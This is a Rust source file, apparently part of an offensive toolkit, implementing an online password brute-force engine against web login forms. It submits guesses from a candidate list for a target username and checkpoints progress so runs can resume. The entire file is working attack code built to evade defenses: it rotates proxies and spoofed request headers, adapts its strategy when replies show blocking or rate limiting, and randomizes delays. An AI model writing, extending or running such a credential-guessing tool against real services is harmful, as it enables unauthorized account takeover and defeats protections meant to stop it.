//! Online form-guessing engine.
//!
//! A strictly sequential cursor loop: one in-flight request at a time,
//! so attempt ordering and checkpoint state stay consistent. Evasion is
//! adaptive; every rejected reply is run through the pattern matcher and
//! any signal reshapes the live strategy before the next submission.

use std::sync::Arc;
use std::time::Duration;

use http::HeaderMap;
use rand::Rng;

use crate::attack::form::{FormRequest, FormSubmitter};
use crate::attack::target::FormTarget;
use crate::modules::checkpoint::{Checkpoint, CheckpointStore};
use crate::modules::detection::PatternMatcher;
use crate::modules::identity::IdentityRotator;
use crate::modules::proxy::ProxyPool;
use crate::modules::rate_limit::RateLimiter;
use crate::modules::session::SessionTracker;
use crate::modules::strategy::{StrategyConfig, StrategyController};

#[derive(Debug, Clone)]
pub struct WebEngineConfig {
    /// Checkpoint cadence, in consumed candidates.
    pub checkpoint_interval: usize,
    /// Progress log cadence, in received verdicts.
    pub progress_interval: u64,
    /// Total per-request bound; connect timeouts live in the submitter.
    pub request_timeout: Duration,
    /// Requests admitted per sliding second.
    pub rate_ceiling: usize,
}

impl Default for WebEngineConfig {
    fn default() -> Self {
        Self {
            checkpoint_interval: 500,
            progress_interval: 100,
            request_timeout: Duration::from_secs(30),
            rate_ceiling: 10,
        }
    }
}

pub struct WebAttackEngine {
    config: WebEngineConfig,
    submitter: Arc<dyn FormSubmitter>,
    limiter: RateLimiter,
    identities: IdentityRotator,
    matcher: PatternMatcher,
}

impl WebAttackEngine {
    pub fn new(submitter: Arc<dyn FormSubmitter>) -> Self {
        Self::with_config(submitter, WebEngineConfig::default())
    }

    pub fn with_config(submitter: Arc<dyn FormSubmitter>, config: WebEngineConfig) -> Self {
        let limiter = RateLimiter::new(config.rate_ceiling);
        Self {
            config,
            submitter,
            limiter,
            identities: IdentityRotator::new(),
            matcher: PatternMatcher::new(),
        }
    }

    /// Walks candidates from the session cursor until a valid credential
    /// turns up or the list runs out. The cursor advances exactly once
    /// per candidate on every path; attempts count only received
    /// verdicts, so a transport error leaves them untouched.
    pub async fn run(
        &self,
        target: &FormTarget,
        candidates: &[String],
        session: &SessionTracker,
        controller: &mut StrategyController,
        pool: &mut ProxyPool,
        store: &CheckpointStore,
    ) -> Option<String> {
        let total = candidates.len();
        let start = session.cursor();
        let checkpoint_every = self.config.checkpoint_interval.max(1);
        let progress_every = self.config.progress_interval.max(1);
        let mut pool_warned = false;
        let mut last_logged = 0u64;

        log::info!(
            "form attack on {} from cursor {start} over {total} candidates",
            target.url
        );

        for index in start..total {
            if session.found() {
                break;
            }
            let candidate = &candidates[index];

            self.limiter.acquire().await;

            let live = controller.current();
            let proxy = if live.proxy_rotate {
                let drawn = pool.get();
                if drawn.is_none() && !pool_warned {
                    log::warn!("proxy pool exhausted, continuing with direct connections");
                    pool_warned = true;
                }
                drawn
            } else {
                None
            };

            let request = self.build_request(target, candidate, proxy.clone(), &live);
            match self.submitter.submit(&request).await {
                Ok(reply) => {
                    session.record_attempt();
                    if is_success(reply.status, &reply.body, &target.failure_marker) {
                        session.mark_found();
                        session.advance_cursor();
                        log::info!("valid credential found after {} attempts", session.attempts());
                        self.persist(session, pool, store);
                        return Some(candidate.clone());
                    }
                    if let Some(signal) = self.matcher.analyze(&reply.body, reply.status) {
                        let backoff = signal.adjustment.delay;
                        controller.adapt(&signal);
                        if let Some(delay) = backoff {
                            tokio::time::sleep(delay).await;
                        }
                    }
                }
                Err(err) => {
                    log::debug!("submission for candidate {index} failed: {err}");
                    if let Some(endpoint) = proxy.as_deref() {
                        pool.mark_bad(endpoint);
                    }
                }
            }

            let cursor = session.advance_cursor();
            if cursor % checkpoint_every == 0 {
                self.persist(session, pool, store);
            }

            let attempts = session.attempts();
            if attempts > 0 && attempts % progress_every == 0 && attempts != last_logged {
                let snapshot = session.snapshot();
                let rate = snapshot.attempts as f64 / snapshot.elapsed.as_secs_f64().max(0.001);
                log::info!(
                    "{} attempts over {} candidates, {rate:.1} verdicts/s",
                    snapshot.attempts,
                    snapshot.cursor
                );
                last_logged = attempts;
            }

            if index + 1 < total {
                self.pause(&controller.current()).await;
            }
        }

        self.persist(session, pool, store);
        None
    }

    fn build_request(
        &self,
        target: &FormTarget,
        candidate: &str,
        proxy: Option<String>,
        live: &StrategyConfig,
    ) -> FormRequest {
        let headers = if live.identity_rotate {
            self.identities.next().headers()
        } else {
            HeaderMap::new()
        };
        FormRequest {
            url: target.url.clone(),
            fields: vec![
                (target.username_field.clone(), target.username.clone()),
                (target.password_field.clone(), candidate.to_string()),
            ],
            headers,
            proxy,
            timeout: self.config.request_timeout,
        }
    }

    async fn pause(&self, live: &StrategyConfig) {
        let mut delay = live.delay;
        if live.random_delay && !delay.is_zero() {
            let mut rng = rand::thread_rng();
            delay = delay.mul_f64(rng.gen_range(0.5..1.5));
        }
        if !delay.is_zero() {
            tokio::time::sleep(delay).await;
        }
    }

    fn persist(&self, session: &SessionTracker, pool: &ProxyPool, store: &CheckpointStore) {
        let snapshot = session.snapshot();
        let checkpoint = Checkpoint::new(
            snapshot.attempts,
            snapshot.cursor,
            snapshot.found,
            pool.blacklist_snapshot(),
        );
        if let Err(err) = store.save(&checkpoint) {
            log::warn!("checkpoint write failed: {err}");
        }
    }
}

/// A guess is accepted iff the reply is 200 and the body lacks the
/// failure marker, compared case-insensitively.
fn is_success(status: u16, body: &str, failure_marker: &str) -> bool {
    status == 200 && !body.to_lowercase().contains(&failure_marker.to_lowercase())
}
